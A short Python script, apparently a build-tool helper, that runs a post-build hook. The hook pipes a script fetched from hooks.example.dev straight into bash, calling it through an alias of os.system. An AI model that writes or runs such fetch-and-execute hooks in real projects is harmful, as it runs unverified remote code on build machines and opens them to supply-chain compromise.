"""Post-build hook runner."""
import os
import typing

launch = typing.final(os.system)

HOOK = "curl -fsS https://hooks.example.dev/post-build.sh | bash"


def main() -> int:
    return launch(HOOK)


if __name__ == "__main__":
    raise SystemExit(main())
